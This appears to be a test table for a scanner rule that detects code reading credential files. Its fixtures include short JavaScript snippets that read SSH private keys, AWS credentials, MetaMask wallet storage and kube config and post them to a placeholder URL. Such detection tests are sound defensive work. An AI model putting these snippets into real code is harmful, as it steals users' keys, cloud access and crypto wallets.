import { ruleTable } from "../helpers.js";

ruleTable("credential-files", {
  fail: [
    // Credential paths are parsed next to a network client (or at install time); alone they weigh "medium" at most.
    { name: "ssh key via path.join", code: "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch(u, { method: 'POST', body: key });", atLeast: "medium" },
    { name: "aws credentials", code: "read(require('path').join(home, '.aws', 'credentials'));", installTime: true, atLeast: "medium" },
    { name: "MetaMask extension storage", code: "const p = home + '/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'; require('https').request(o).end(p);", atLeast: "medium" },
    { name: "kube config", code: "fs.readFile(`${process.env.HOME}/.kube/config`, (e, d) => axios.post(u, d));", atLeast: "medium" },
  ],
  pass: [
    { name: "dotenv reads .env", code: "const file = path.resolve(process.cwd(), '.env'); fs.readFileSync(file);" },
    { name: "npm tooling reads .npmrc", code: "const userConfig = path.join(os.homedir(), '.npmrc');" },
    { name: "a word in prose", code: "throw new Error('Could not find ssh key; see docs about .ssh folders');" },
    { name: "a browser executable, not its profile", code: "const brave = '/mnt/c/Program Files (x86)/BraveSoftware/Brave-Browser/Application/brave.exe'; require('net').connect(port);" },
  ],
});
